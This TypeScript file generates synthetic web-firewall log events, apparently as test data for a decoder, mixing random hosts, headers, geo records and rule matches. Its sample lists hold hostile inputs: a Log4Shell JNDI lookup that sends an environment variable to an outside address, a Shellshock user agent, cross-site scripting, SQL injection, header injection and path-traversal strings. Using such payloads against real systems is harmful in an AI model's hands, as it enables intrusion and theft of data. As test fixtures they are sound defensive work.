/** One event before encoding: what the attacker sent and what the firewall made of it. */

import { FACET_NAMES, type EscapeCase, type Facet, type FacetItem, type FacetName, type HeaderLine } from "./encoding.ts";
import { Random, mix } from "./random.ts";
import { RULES } from "./rules.ts";

/** Writing of the JSON text itself. */
export type JsonStyle = "compact" | "spaced" | "ascii";

export interface PlainEvent {
  escapes: EscapeCase;
  json: JsonStyle;
  /** `1.0` instead of `"1.0"`. */
  numericVersion: boolean;
  /** Order of the top-level members. */
  order: readonly string[];
  attack: Record<string, string>;
  ruleCount: number;
  facets: Map<FacetName, Facet>;
  http: Record<string, string>;
  /** `undefined`: the member is missing. */
  requestHeaders: HeaderLine[];
  responseHeaders: HeaderLine[] | undefined;
  lineBreak: "\r\n" | "\n";
  /** Header blocks arrive without percent-escapes where they need none, as in some saved responses. */
  headersUnescaped: boolean;
  /** Other top-level objects that no decoder changes. */
  others: Record<string, Record<string, string>>;
  custom: { wire: Record<string, string>; decoded: Record<string, string> } | undefined;
}

/** What differs between two events of the same template. */
export interface EventValues {
  requestId: string;
  /** Seconds since 1970, with or without milliseconds, as the template wants it. */
  start: (fraction: boolean) => string;
}

const GEO = [
  { asn: "14618", city: "ASHBURN", continent: "288", country: "US", regionCode: "VA" },
  { asn: "3320", city: "FRANKFURT", continent: "EU", country: "DE", regionCode: "HE" },
  { asn: "4766", city: "SEOUL", continent: "AS", country: "KR", regionCode: "11" },
  { asn: "28573", city: "SAO PAULO", continent: "SA", country: "BR", regionCode: "SP" },
  { asn: "", city: "reserved", continent: "288", country: "reserved", regionCode: "" },
  { asn: "2119", city: "TR\u00d8NDELAG", continent: "EU", country: "NO", regionCode: "50" },
] as const;

const HOSTS = ["www.example.com", "shop.example.com", "api.example.net", "login.example.org", "xn--bcher-kva.example"];
const PATHS = ["/", "/index.php", "/api/v2/users", "/search", "/cart/checkout", "/wp-login.php", "/static/..%2f..%2fetc%2fpasswd"];
const QUERIES = [
  "option=com_jce%20telnet.exe",
  "q=</script><script>alert(1)</script>",
  "q=%253Cscript%253Ealert%25281%2529%253C%252Fscript%253E",
  "id=1'%20or%20'1'='1&sort=asc",
  "next=%0d%0aSet-Cookie:%20admin%3d1%0d%0a%0d%0a<html>",
  "name=\u001b]0;owned\u0007\u001b[31mred",
  "a=%zz&b=%&c=%u0027",
  "q=z\u00fcrich+\u65e5\u672c\u8a9e",
  "redirect=https%3A%2F%2Fexample.com%2F%3Fa%3D1%3Bb%3D2",
];
const AGENTS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
  "python-requests/2.32.3",
  "sqlmap/1.8.4#stable (https://sqlmap.org)",
  "BOT/0.1 (BOT for JCE)",
  "\u001b[2J\u001b[1;1Hcurl/8.5.0",
  "${jndi:ldap://198.51.100.9:1389/${env:USER}}",
  "() { :;}; /bin/bash -c 'echo vulnerable'",
];
const REFERERS = [
  "https://www.example.com/search?q=%3Cscript%3E&lang=de",
  "https://www.example.com/a;b=c?d=e+f",
  'https://www.example.com/"><img src=x onerror=alert(1)>',
  "https://b\u00fccher.example/%253C",
];
const ORDERS: readonly (readonly string[])[] = [
  ["attackData", "botData", "clientData", "custom", "format", "geo", "httpMessage", "identity", "type", "userRiskData", "version"],
  ["format", "type", "version", "attackData", "geo", "httpMessage", "userRiskData", "clientData", "botData", "identity", "custom"],
  ["type", "format", "version", "attackData", "httpMessage", "geo", "custom", "identity", "botData", "clientData", "userRiskData"],
];

const bytes = (value: string | Buffer): Buffer => (typeof value === "string" ? Buffer.from(value, "utf8") : value);

function rules(random: Random, count: number): Map<FacetName, Facet> {
  const kinds = random.shuffle(RULES).slice(0, count);
  const chosen = kinds.map((kind): Record<FacetName, FacetItem> => ({
    rules: { bytes: bytes(kind.rule) },
    ruleVersions: random.chance(1) ? { literal: "(none)" } : { bytes: bytes(kind.version) },
    ruleMessages: { bytes: bytes(kind.message) },
    ruleTags: { bytes: bytes(kind.tag) },
    ruleData: { bytes: bytes(random.pick(kind.data)) },
    ruleSelectors: { bytes: bytes(random.pick(kind.selectors)) },
    ruleActions: { bytes: bytes(random.pick(kind.actions)) },
  }));
  const unpadded = random.chance(2);
  const facets = new Map<FacetName, Facet>();
  for (const name of random.chance(25) ? random.shuffle(FACET_NAMES) : [...FACET_NAMES].sort()) {
    const facet: Facet = { items: chosen.map((rule) => rule[name]), trailing: random.chance(4), unpadded };
    if (name === "ruleVersions" || name === "ruleData" || name === "ruleSelectors") {
      if (random.chance(6)) Object.assign(facet, { items: [{ bytes: Buffer.alloc(0) }], trailing: false });
      else if (random.chance(2)) continue;
      else if (random.chance(2) && facet.items.length > 1) facet.items.pop();
    }
    facets.set(name, facet);
  }
  return facets;
}

function header(name: string, value: string | Buffer, ...folded: string[]): HeaderLine {
  return { name, value: bytes(value), folded, space: true };
}

function requestHeaders(random: Random, host: string, requestId: string, session: string): HeaderLine[] {
  const lines = [
    header("Host", host),
    header("User-Agent", random.pick(AGENTS)),
    header("Accept", random.pick(["text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "*/*", "application/vnd.api+json"])),
    header("X-Request-Id", requestId),
  ];
  if (random.chance(60)) lines.push(header("Accept-Language", "en-US,en;q=0.5"));
  if (random.chance(60)) lines.push(header("Accept-Encoding", "gzip, deflate"));
  if (random.chance(50)) lines.push(header("Referer", random.pick(REFERERS)));
  if (random.chance(30)) lines.push(header("X-Forwarded-For", `198.51.100.${random.below(256)}, 10.0.0.${random.below(256)}`));
  if (random.chance(10)) lines.push({ ...header("X-No-Space", "value:with:colons"), space: false } as HeaderLine);
  if (random.chance(8)) lines.push(header("X-Empty", ""));
  if (random.chance(4)) lines.push(header("X-Latin1", Buffer.from("caf\u00e9", "latin1")));
  if (random.chance(4)) lines.push(header("X-Injected", "%0d%0aX-Evil: 1 \u0000 \u007f"));
  if (random.chance(2)) lines.push({ raw: "this line has no separator" });
  lines.push(header("Cookie", `session=${session}; theme=dark+${random.hex(6)}`));
  return lines;
}

function responseHeaders(random: Random): HeaderLine[] {
  const lines = [
    header("Server", "AkamaiGHost"),
    header("Mime-Version", "1.0"),
    header("Content-Type", random.pick(["text/html", "application/json; charset=utf-8"])),
    header("Expires", "Tue, 04 Apr 2017 10:57:02 GMT"),
    header("Connection", "close"),
  ];
  if (random.chance(50)) {
    lines.push(header("Set-Cookie", `ak_bmsc=${random.hex(24)}~pluPrg+ulk+6e9; path=/; HttpOnly`));
    lines.push(header("Set-Cookie", `bm_sv=${random.hex(16)}; max-age=7200; path=/`));
  }
  if (random.chance(10)) lines.push(header("Content-Security-Policy", "default-src 'self';", "\tobject-src 'none';", "\tbase-uri 'self'"));
  return lines;
}

function custom(random: Random): PlainEvent["custom"] {
  const text = random.pick(["Jacob_Rocks", "VALUE_CUSTOM", "order=17; ok?", "\u00fcber"]);
  const base64 = Buffer.from(text, "utf8").toString("base64");
  return random.pick([
    { wire: { custom: base64 }, decoded: { custom: text } },
    { wire: { NAME_CUSTOM: base64.replaceAll("=", "%3d") }, decoded: { NAME_CUSTOM: text } },
    { wire: { edgeRequestId: "not.base64:1" }, decoded: { edgeRequestId: "not.base64:1" } },
    // Two values in one string: not base64 as a whole, so it stays as it came.
    { wire: { custom: "T1dBU1A%3d%3bUkVQ" }, decoded: { custom: "T1dBU1A%3d%3bUkVQ" } },
  ]);
}

function others(random: Random): PlainEvent["others"] {
  const out: PlainEvent["others"] = { geo: { ...random.pick(GEO) } };
  if (random.chance(40)) out["botData"] = { botScore: String(random.below(101)), responseSegment: String(random.below(5)) };
  if (random.chance(20)) {
    out["clientData"] = { appBundleId: "com.example.app", appVersion: "1.23", sdkVersion: "4.7.1", telemetryType: String(random.below(3)) };
  }
  if (random.chance(30)) {
    const tls = random.hex(32);
    out["identity"] = { ja4: `t13d1516h2_${random.hex(12)}_${random.hex(12)}`, tlsFingerprintV2: tls, tlsFingerprintV3: random.hex(64) };
  }
  if (random.chance(25)) {
    out["userRiskData"] = {
      allow: "0",
      emailDomain: "example.com",
      general: random.pick(["duc_1h:10|duc_1d:30", "", "flag"]),
      originUserId: `user-${random.hex(6)}`,
      risk: "udfp:1325gdg4g4343g/M|unp:74256/H",
      score: random.pick(["75", "", "0"]),
      status: "0",
      trust: "ugp:US",
      username: random.pick(["alice@example.com", "J\u00f6rg", "\u202eeve", "\u001b[5mblink"]),
      uuid: `${random.hex(8)}-0821-413a-a4d6-${random.hex(12)}`,
    };
  }
  return out;
}

export interface TemplateOptions {
  seed: number;
  template: number;
  /** Alternative version of the same template with fewer rules, for when it came out too long. */
  fewerRules: number;
  /** Characters of session cookie, which bring an event up to its usual size. */
  padding: number;
  configIds: readonly string[];
}

/** The plain event that a template and the values of one event stand for. */
export function plainEvent(options: TemplateOptions, values: EventValues): PlainEvent {
  const random = new Random(mix(options.seed, options.template));
  // From a stream of its own, so that its length changes nothing else.
  const session = new Random(mix(~options.seed, options.template)).text(options.padding);
  const withoutRules = random.chance(2);
  const wanted = Math.max(1, 1 + Math.min(random.below(6), random.below(6)) - options.fewerRules);
  const facets = withoutRules ? new Map<FacetName, Facet>() : rules(random, wanted);
  const host = random.pick(HOSTS);
  const secure = random.chance(80);
  const ipv6 = random.chance(15);
  const attack: Record<string, string> = {
    clientIP: ipv6 ? `2001:db8:${random.hex(4)}::${random.hex(3)}` : `192.0.2.${random.below(256)}`,
    configId: random.pick(options.configIds),
    policyId: `qik1_${10_000 + random.below(90_000)}`,
  };
  if (random.chance(20)) attack["clientReputation"] = "ID=172.19.185.64;WEBATCK=9;DOSATCK=9";
  if (random.chance(10)) Object.assign(attack, { apiId: `API_${random.below(1_000_000)}`, apiKey: "" });
  if (random.chance(50)) attack["appliedAction"] = random.pick(["deny", "alert", "monitor", "tarpit", "abort"]);
  if (random.chance(3)) Object.assign(attack, { slowPostAction: "W", slowPostRate: "10" });
  const http: Record<string, string> = {
    bytes: String(random.below(100_000)),
    host,
    method: random.pick(["GET", "GET", "GET", "POST", "PUT", "PATCH", "HEAD"]),
    path: random.pick(PATHS),
    port: secure ? random.pick(["443", "443", "8443"]) : "80",
    protocol: random.pick(["HTTP/1.1", "HTTP/2", "h2", "http/2"]),
    requestId: values.requestId,
    start: values.start(random.chance(30)),
    status: random.pick(["200", "403", "403", "404", "500"]),
  };
  if (random.chance(70)) http["query"] = random.pick(QUERIES);
  if (secure) http["tls"] = random.pick(["tls1.2", "tls1.3", "TLSv1.3"]);
  return {
    escapes: random.chance(85) ? "lower" : "upper",
    json: random.chance(94) ? "compact" : random.pick(["spaced", "ascii"]),
    numericVersion: random.chance(10),
    order: random.pick(ORDERS),
    attack,
    ruleCount: wanted + 1,
    facets,
    http,
    requestHeaders: requestHeaders(random, host, values.requestId, session),
    responseHeaders: random.chance(95) ? (random.chance(97) ? responseHeaders(random) : []) : undefined,
    lineBreak: random.chance(97) ? "\r\n" : "\n",
    headersUnescaped: random.chance(2),
    others: others(random),
    custom: random.chance(25) ? custom(random) : undefined,
  };
}
